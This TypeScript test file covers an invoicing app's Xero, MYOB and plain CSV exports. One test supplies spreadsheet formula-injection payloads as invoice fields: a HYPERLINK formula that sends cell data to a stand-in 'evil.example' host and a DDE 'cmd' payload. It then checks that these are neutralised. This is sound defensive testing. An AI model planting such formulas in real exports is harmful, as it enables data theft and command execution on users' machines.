import { randomUUID } from 'node:crypto';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends, signedInClient, startTestServer, type TestServer } from '../helpers/api';
import { invoiceArgs, invoiceItem, push, setUpBusiness } from './documents-builders';
import { MYOB_COLUMNS, PLAIN_COLUMNS, XERO_COLUMNS } from '../../src/domain/export/accounting';

const cents = (s: string) => Math.round(Number(s) * 100);
const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: false });

describe.each(backends)('accounting export on %s (issue 12)', (kind) => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer(kind);
  });
  afterAll(() => server.close());

  /** Three final invoices in November (one part paid, one paid), one in October, one draft: the range takes the three. */
  async function books() {
    const { client } = await signedInClient(server);
    await setUpBusiness(client);
    const a = invoiceArgs({
      invoiceNumber: 'INV-0001',
      invoiceDate: '2026-11-02',
      dueDate: '2026-11-16',
      customerAddress: '1 Beach Rd\nThirroul NSW 2515',
      items: [invoiceItem('Hot water unit', 1, 123_456), invoiceItem('Labour', 3, 9_999)],
    });
    const b = invoiceArgs({ invoiceNumber: 'INV-0002', invoiceDate: '2026-11-10', items: [invoiceItem('Tap washer', 7, 333)] });
    const c = invoiceArgs({ invoiceNumber: 'INV-0003', invoiceDate: '2026-11-30', items: [invoiceItem('Call-out', 1, 15_000)] });
    const old = invoiceArgs({ invoiceNumber: 'INV-0000', invoiceDate: '2026-10-31', items: [invoiceItem('Old job', 1, 10_000)] });
    const draft = invoiceArgs({ invoiceNumber: 'INV-0004', invoiceDate: '2026-11-15' });
    await push(client, [
      ...[a, b, c, old, draft].map((args) => ({ name: 'invoice.create', args })),
      ...[a, b, c, old].map((i) => ({ name: 'invoice.send', args: { id: i.id, to: null } })),
      {
        name: 'invoice.recordPayment',
        args: {
          id: a.id,
          payment: { id: randomUUID(), date: '2026-11-20', amountCents: 50_000, method: 'Bank transfer', reference: 'INV-0001' },
        },
      },
      { name: 'invoice.markPaid', args: { id: b.id, paidDate: '2026-11-21', paymentMethod: 'Cash' } },
      { name: 'invoice.markPaid', args: { id: old.id, paidDate: '2026-11-03', paymentMethod: 'Card' } },
    ]);
    const invoices = (await client.get('/api/invoices')).body as Array<{
      invoiceNumber: string;
      totalCents: number;
      gstCents: number;
      subtotalCents: number;
    }>;
    const byNumber = new Map(invoices.map((i) => [i.invoiceNumber, i]));
    return { client, byNumber };
  }

  it("Xero: the sales-invoice template's columns, one row per line, and the lines add up to each invoice", async () => {
    const { client, byNumber } = await books();
    const res = await client.get('/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=xero');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const { data, meta, errors } = parse(res.body as string);
    expect(errors).toEqual([]);
    // The header row of Xero's SalesInvoiceTemplate.csv, written out by hand so a mistake in the code cannot hide itself.
    expect(meta.fields).toEqual(
      (
        '*ContactName,EmailAddress,POAddressLine1,POAddressLine2,POAddressLine3,POAddressLine4,POCity,PORegion,POPostalCode,' +
        'POCountry,*InvoiceNumber,Reference,*InvoiceDate,*DueDate,Total,InventoryItemCode,*Description,*Quantity,*UnitAmount,' +
        'Discount,*AccountCode,*TaxType,TaxAmount,TrackingName1,TrackingOption1,TrackingName2,TrackingOption2,Currency,BrandingTheme'
      ).split(','),
    );
    expect(XERO_COLUMNS).toHaveLength(29);
    expect(data.map((r) => r['*InvoiceNumber'])).toEqual(['INV-0001', 'INV-0001', 'INV-0002', 'INV-0003']);
    expect(data[0]).toMatchObject({
      '*ContactName': 'Jo Citizen',
      POAddressLine1: '1 Beach Rd',
      POAddressLine2: '', // issue 18: suburb, state and postcode in their own columns
      POCity: 'Thirroul',
      PORegion: 'NSW',
      POPostalCode: '2515',
      POCountry: 'Australia',
      '*InvoiceDate': '02/11/2026',
      '*DueDate': '16/11/2026',
      '*TaxType': 'GST on Income',
      '*AccountCode': '200',
      Currency: 'AUD',
    });
    for (const n of ['INV-0001', 'INV-0002', 'INV-0003']) {
      const lines = data.filter((r) => r['*InvoiceNumber'] === n);
      const ex = lines.reduce((s, r) => s + Math.round(Number(r['*Quantity']) * cents(r['*UnitAmount'])), 0);
      expect(ex).toBe(byNumber.get(n)!.subtotalCents);
      // GST per line adds up to the invoice's GST to the cent (INV-0001's lines rounded one by one would be a cent over).
      expect(lines.reduce((s, r) => s + cents(r.TaxAmount), 0)).toBe(byNumber.get(n)!.gstCents);
      for (const r of lines) expect(cents(r.Total)).toBe(byNumber.get(n)!.totalCents);
    }
  });

  it('MYOB: the service-sale import fields, an empty row between sales, and amounts that add up to each invoice incl. GST', async () => {
    const { client, byNumber } = await books();
    const res = await client.get('/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=myob');
    const { data, meta } = parse(res.body as string);
    expect(meta.fields).toEqual([...MYOB_COLUMNS]);
    // MYOB's own field names (AccountRight "Sales - Service" import fields), written out by hand
    expect(meta.fields).toEqual([
      'Co./Last Name',
      'First Name',
      'Addr 1 - Line 1',
      'Addr 1 - Line 2',
      'Addr 1 - Line 3',
      'Addr 1 - Line 4',
      'Inclusive',
      'Invoice No.',
      'Date',
      'Customer PO',
      'Description',
      'Account No.',
      'Amount',
      'Inc-Tax Amount',
      'Job',
      'Comment',
      'Journal Memo',
      'Tax Code',
      'Non-GST Amount',
      'GST Amount',
      'Sale Status',
      'Terms - Payment is Due',
      ' - Balance Due Days',
      'Amount Paid',
      'Payment Method',
    ]);
    const sales = data.filter((r) => r['Invoice No.']);
    expect(data.filter((r) => !r['Invoice No.'] && Object.values(r).every((v) => v === ''))).toHaveLength(3);
    for (const n of ['INV-0001', 'INV-0002', 'INV-0003']) {
      const rows = sales.filter((r) => r['Invoice No.'] === n);
      const inv = byNumber.get(n)!;
      expect(rows.reduce((s, r) => s + cents(r['Amount']), 0)).toBe(inv.subtotalCents);
      expect(rows.reduce((s, r) => s + cents(r['GST Amount']), 0)).toBe(inv.gstCents);
      expect(rows.reduce((s, r) => s + cents(r['Inc-Tax Amount']), 0)).toBe(inv.totalCents);
      expect(rows[0]['Tax Code']).toBe('GST');
    }
    expect(sales.find((r) => r['Invoice No.'] === 'INV-0001')!['Amount Paid']).toBe('500.00');
  });

  it('plain: every invoice with totals, paid and owing, and every payment in the range (an older invoice paid in range too)', async () => {
    const { client, byNumber } = await books();
    const res = await client.get('/api/export/invoices.csv?from=2026-11-01&to=2026-11-30');
    const { data, meta } = parse(res.body as string);
    expect(meta.fields).toEqual([...PLAIN_COLUMNS]);
    const invoices = data.filter((r) => r.Record === 'Invoice');
    const payments = data.filter((r) => r.Record === 'Payment');
    expect(invoices.map((r) => r['Invoice number'])).toEqual(['INV-0001', 'INV-0002', 'INV-0003']);
    const total = invoices.reduce((s, r) => s + cents(r['Total (incl. GST)']), 0);
    expect(total).toBe(['INV-0001', 'INV-0002', 'INV-0003'].reduce((s, n) => s + byNumber.get(n)!.totalCents, 0));
    for (const r of invoices) expect(cents(r.Paid) + cents(r.Owing)).toBe(cents(r['Total (incl. GST)']));
    expect(payments.map((p) => [p['Invoice number'], p['Payment date'], p['Payment method']])).toEqual([
      ['INV-0000', '03/11/2026', 'Card'],
      ['INV-0001', '20/11/2026', 'Bank transfer'],
      ['INV-0002', '21/11/2026', 'Cash'],
    ]);
    expect(payments.reduce((s, p) => s + cents(p['Payment amount']), 0)).toBe(
      50_000 + byNumber.get('INV-0002')!.totalCents + byNumber.get('INV-0000')!.totalCents,
    );
  });

  it('neutralises formula cells from a hostile customer name and a hostile supplier line in every format; our numbers stay numbers (issue 18)', async () => {
    const { client } = await signedInClient(server);
    await setUpBusiness(client);
    const hostile = invoiceArgs({
      invoiceNumber: 'INV-0101',
      invoiceDate: '2026-11-05',
      customerName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      customerEmail: '',
      customerAddress: '+61 Evil St\n@SUM(1+1) NSW 2000',
      title: '-2+3',
      items: [
        invoiceItem("=cmd|' /C calc'!A0", 1, 10_000),
        invoiceItem('-10% supplier discount', 2, 500),
        invoiceItem('@Price file line', 1, 100),
      ],
    });
    await push(client, [
      { name: 'invoice.create', args: hostile },
      { name: 'invoice.send', args: { id: hostile.id, to: null } },
    ]);
    for (const format of ['xero', 'myob', 'plain']) {
      const res = await client.get(`/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=${format}`);
      const { data, meta } = parse(res.body as string);
      const cells = data.flatMap((r) => meta.fields!.map((f) => [f, r[f] ?? ''] as const));
      const dangerous = cells.filter(([, v]) => /^[=+\-@\t\r]/.test(v));
      // only amounts we wrote may start with "-" (none here), and nothing else may start a formula
      expect(dangerous.filter(([, v]) => !/^-\d+\.\d\d$/.test(v))).toEqual([]);
      expect(cells.some(([, v]) => v.startsWith("'=HYPERLINK"))).toBe(true);
    }
    const xero = parse((await client.get('/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=xero')).body as string).data;
    expect(xero.map((r) => r['*Description'])).toEqual(["'=cmd|' /C calc'!A0", "'-10% supplier discount", "'@Price file line"]);
    expect(xero[0]).toMatchObject({ POAddressLine1: "'+61 Evil St", Reference: "'-2+3", '*UnitAmount': '100.00' });
  });

  it('refuses a bad range with the field named, and shows only the business’s own invoices', async () => {
    const { client } = await books();
    const bad = await client.get('/api/export/invoices.csv?from=2026-11-30&to=2026-11-01');
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toBe('to: must be on or after from');
    expect((await client.get('/api/export/invoices.csv?from=nope&to=2026-11-01')).body.error.message).toBe(
      'from: from must be a date (YYYY-MM-DD)',
    );
    const other = (await signedInClient(server)).client;
    const mine = parse((await other.get('/api/export/invoices.csv?from=2026-01-01&to=2026-12-31')).body as string);
    expect(mine.data.filter((r) => r.Record)).toEqual([]);
    expect((await server.client().get('/api/export/invoices.csv?from=2026-01-01&to=2026-12-31')).status).toBe(401);
  });
});
